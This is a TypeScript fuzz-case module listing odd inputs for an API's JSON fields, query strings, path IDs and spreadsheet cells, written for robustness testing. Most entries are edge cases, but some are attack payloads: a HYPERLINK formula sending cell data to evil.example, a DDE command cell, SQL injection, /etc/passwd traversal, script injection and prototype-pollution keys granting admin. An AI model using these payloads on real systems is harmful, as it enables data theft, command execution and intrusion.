// The odd values the fuzz cases are made of: for JSON fields, query strings,
// path parameters and spreadsheet cells. Each comes with a short label, so that
// a failure says what was sent without printing a megabyte.
import type { Rng } from "./random.ts";

export interface Odd<T> {
  label: string;
  make: (rng: Rng) => T;
}

const fixed = <T>(label: string, value: T): Odd<T> => ({ label, make: () => value });

/** An object nested `depth` levels deep: {"a":{"a":…}}. */
function nestedObject(depth: number): unknown {
  let value: unknown = 1;
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}
function nestedArray(depth: number): unknown {
  let value: unknown = [];
  for (let i = 0; i < depth; i++) value = [value];
  return value;
}

const UNICODE = "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧 ‮gnp.exe ﷽ e\u0301 \u200b\ufeff Ω≈ç√ 日本語 العربية";

/** Values for a JSON field, of any type: wrong types, extreme numbers, text the database cannot store… */
export const JSON_VALUES: readonly Odd<unknown>[] = [
  fixed("2**40", 2 ** 40),
  fixed("2**31", 2 ** 31),
  fixed("-2**31-1", -(2 ** 31) - 1),
  fixed("2**53", 2 ** 53),
  fixed("MAX_SAFE_INTEGER", Number.MAX_SAFE_INTEGER),
  fixed("1e21", 1e21),
  fixed("1e308", 1e308),
  fixed("-1", -1),
  fixed("0", 0),
  fixed("0.5", 0.5),
  fixed("-0.000001", -0.000001),
  fixed("2022.5", 2022.5),
  fixed("true", true),
  fixed("false", false),
  fixed("null", null),
  fixed("\"\"", ""),
  fixed("\" \"", "   "),
  fixed("NUL", "a\u0000b"),
  fixed("only NUL", "\u0000"),
  fixed("lone high surrogate", "\ud800"),
  fixed("lone low surrogate", "x\udc00y"),
  fixed("control characters", "a\u0001\u0007\u001b[31mb\u007f"),
  fixed("unicode", UNICODE),
  fixed("\"NaN\"", "NaN"),
  fixed("\"Infinity\"", "Infinity"),
  fixed("\"-Infinity\"", "-Infinity"),
  fixed("\"1e999\"", "1e999"),
  fixed("\"2**40\"", "1099511627776"),
  fixed("\"-1\"", "-1"),
  fixed("\"-0\"", "-0"),
  fixed("\"0x10\"", "0x10"),
  fixed("decimal comma", "1,5"),
  fixed("French amount", "35 000 000,50"),
  fixed("thousands commas", "35,000,000"),
  fixed("digits 40", "9".repeat(40)),
  fixed("decimals 20", "1." + "1".repeat(20)),
  fixed("fullwidth digits", "１２３"),
  fixed("Arabic-Indic digits", "١٢٣"),
  fixed("\"2022\"", "2022"),
  fixed("formula", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez\")"),
  fixed("DDE", "+cmd|' /C calc'!A0"),
  fixed("SQL", "'; drop table users; --"),
  fixed("LIKE wildcards", "%_\\"),
  fixed("path", "../../../../etc/passwd"),
  fixed("HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
  fixed("impossible date", "2022-02-30"),
  fixed("date year 0", "0000-00-00"),
  fixed("far date", "+275760-09-13"),
  fixed("date 9999", "9999-12-31"),
  fixed("nil uuid", "00000000-0000-0000-0000-000000000000"),
  fixed("uppercase uuid", "A0EEBC99-9C0B-4EF8-BB6D-6BB9BD380A11"),
  fixed("uuid with NUL", "a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a1\u0000"),
  fixed("not a uuid", "not-a-uuid"),
  fixed("long string 10k", "x".repeat(10_000)),
  { label: "huge string 1M", make: (rng) => rng.pick(["é", "x", "👩‍👩‍👧", " "]).repeat(1_000_000 / 8) },
  fixed("combining marks 5k", "e" + "\u0301".repeat(5_000)),
  fixed("[]", []),
  fixed("[1,2,3]", [1, 2, 3]),
  fixed("[\"a\"]", ["a"]),
  fixed("array of 5 000 months", Array.from({ length: 5_000 }, (_, i) => (i % 12) + 1)),
  fixed("array of 2 001 objects", Array.from({ length: 2_001 }, () => ({}))),
  fixed("{}", {}),
  fixed("{\"a\":1}", { a: 1 }),
  fixed("nested object 50", nestedObject(50)),
  // Deeper nesting goes as raw text (RAW_BODIES): cloning it here would overflow this process's own stack.
  { label: "deeply nested object", make: (rng) => nestedObject(rng.pick([200, 1_000])) },
  { label: "deeply nested array", make: (rng) => nestedArray(rng.pick([200, 1_000])) },
];

/** `depth` openings, then the closings: "[[[…]]]", as text. */
function nestedText(depth: number, open: string, close: string): string {
  const [inner, last] = close.length > 1 ? [close.slice(0, -1), close.slice(-1)] : ["", close];
  return open.repeat(depth) + inner + last.repeat(depth);
}

/** Raw JSON texts sent as a body: not what JSON.stringify of any value gives. */
export const RAW_BODIES: readonly Odd<string>[] = [
  fixed("__proto__ key", "{\"__proto__\":{\"polluted\":\"yes\",\"isPlatformAdmin\":true}}"),
  fixed("constructor.prototype key", "{\"constructor\":{\"prototype\":{\"polluted\":\"yes\"}}}"),
  fixed("NUL escape in a key", "{\"a\\u0000b\":1}"),
  fixed("lone surrogate escape", "{\"title\":\"\\ud800\"}"),
  fixed("empty text", ""),
  fixed("not JSON", "hello"),
  fixed("JSON null", "null"),
  fixed("JSON number", "42"),
  fixed("JSON string", "\"x\""),
  fixed("JSON array", "[]"),
  fixed("unclosed object", "{\"title\":"),
  fixed("trailing comma", "{\"title\":\"x\",}"),
  fixed("number too big for JSON", "{\"position\":1e400,\"version\":1}"),
  fixed("BOM", "\ufeff{\"title\":\"x\"}"),
  { label: "deeply nested arrays", make: (rng) => nestedText(rng.pick([10_000, 100_000]), "[", "]") },
  { label: "deeply nested objects", make: (rng) => nestedText(rng.pick([10_000, 100_000]), "{\"a\":", "1}") },
  { label: "4 MB of spaces", make: () => "{" + " ".repeat(4 * 1024 * 1024) + "}" },
  { label: "over the body limit", make: () => JSON.stringify({ title: "x".repeat(6 * 1024 * 1024) }) },
];

/** Values for a query-string parameter, already percent-encoded (or deliberately not). */
export const QUERY_VALUES: readonly Odd<string>[] = [
  fixed("%00", "a%00b"),
  fixed("%ud800", "%ud800"),
  fixed("encoded lone surrogate", "%ED%A0%80"),
  fixed("broken percent", "%E0%A4%A"),
  fixed("bad percent", "%zz"),
  fixed("empty", ""),
  fixed("2**40", "1099511627776"),
  fixed("2**53+2", "9007199254740994"),
  fixed("1e308", "1e308"),
  fixed("1e400", "1e400"),
  fixed("-1", "-1"),
  fixed("0", "0"),
  fixed("0.5", "0.5"),
  fixed("NaN", "NaN"),
  fixed("Infinity", "Infinity"),
  fixed("0x10", "0x10"),
  fixed("spaces", "%20%201%20"),
  fixed("unicode", encodeURIComponent(UNICODE)),
  fixed("SQL", encodeURIComponent("'; drop table users; --")),
  fixed("LIKE wildcards", encodeURIComponent("%_\\")),
  fixed("nil uuid", "00000000-0000-0000-0000-000000000000"),
  fixed("not a uuid", "not-a-uuid"),
  fixed("long 10k", "x".repeat(10_000)),
  fixed("long 60k", "y".repeat(60_000)),
  fixed("true", "true"),
  fixed("unknown format", "pdf"),
];

/** Whole query strings that are odd in their shape rather than in one value. */
export const QUERY_SHAPES: readonly Odd<string>[] = [
  fixed("repeated key", "page=1&page=2"),
  fixed("bracket array", "page[]=1"),
  fixed("__proto__ key", "__proto__[polluted]=yes&constructor[prototype][polluted]=yes"),
  fixed("key without value", "page&pageSize"),
  fixed("NUL in a key", "a%00b=1"),
  fixed("many keys", Array.from({ length: 2_000 }, (_, i) => `k${i}=${i}`).join("&")),
  fixed("only ampersands", "&&&&"),
  fixed("hash", "#page=1"),
];

/** Replacements for an `:id` path parameter. */
export const PATH_IDS: readonly Odd<string>[] = [
  fixed("nil uuid", "00000000-0000-0000-0000-000000000000"),
  fixed("random uuid", "6f1c2a9e-3b1d-4c8e-9f0a-2d3e4f5a6b7c"),
  fixed("not a uuid", "not-a-uuid"),
  fixed("%00", "a%00b"),
  fixed("uuid %00", "00000000-0000-0000-0000-00000000000%00"),
  fixed("2**40", "1099511627776"),
  fixed("-1", "-1"),
  fixed("dot dot", "..%2F..%2Fhealth"),
  fixed("encoded slash", "a%2Fb"),
  fixed("broken percent", "%E0%A4%A"),
  fixed("long 5k", "z".repeat(5_000)),
  fixed("unicode", encodeURIComponent(UNICODE)),
];

/** Cell contents for a spreadsheet: huge numbers, NUL, unicode, formulas, empty, negative, decimal commas… */
export const CELL_VALUES: readonly Odd<string>[] = [
  fixed("huge integer", "99999999999999999999999"),
  fixed("2**53+1", "9007199254740993"),
  fixed("1e308", "1e308"),
  fixed("1e309", "1.8e309"),
  fixed("-1e308", "-1e308"),
  fixed("tiny", "1e-300"),
  fixed("negative", "-35000"),
  fixed("negative with commas", "-35,000,000"),
  fixed("parenthesised negative", "(35 000)"),
  fixed("decimal comma", "1,5"),
  fixed("French amount", "35 000 000,50"),
  fixed("German amount", "35.000.000,00"),
  fixed("many decimals", "0.123456789012345678"),
  fixed("NaN", "NaN"),
  fixed("Infinity", "Infinity"),
  fixed("Arabic-Indic digits", "٣٥٠٠٠"),
  fixed("NUL", "\u0000"),
  fixed("NUL inside", "Atelier\u0000 de validation"),
  fixed("lone surrogate", "\ud800"),
  fixed("unicode", UNICODE),
  fixed("formula", "=SUM(G1:G9)"),
  fixed("division by zero", "=1/0"),
  fixed("hyperlink formula", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez\")"),
  fixed("DDE", "+cmd|' /C calc'!A0"),
  fixed("at formula", "@SUM(1+1)"),
  fixed("error value", "#DIV/0!"),
  fixed("ref error", "#REF!"),
  fixed("empty", ""),
  fixed("blank", "   "),
  fixed("PM", "PM"),
  fixed("TRUE", "TRUE"),
  fixed("percent 100000", "100000%"),
  fixed("negative percent", "-100%"),
  fixed("impossible date", "31/02/2022"),
  fixed("far date", "Mar-99999"),
  fixed("long text 40k", "Activité ".repeat(4_500)),
  fixed("unbalanced quote", "\"Activité : atelier"),
  fixed("tab inside", "a\tb"),
  fixed("newline inside", "Activité :\natelier"),
  fixed("carriage return", "a\rb"),
  fixed("semicolon", "a;b;c"),
  fixed("header word", "Budget en FCFA"),
  fixed("total word", "TOTAL GENERAL"),
  fixed("subtotal word", "Sous Total B1"),
];
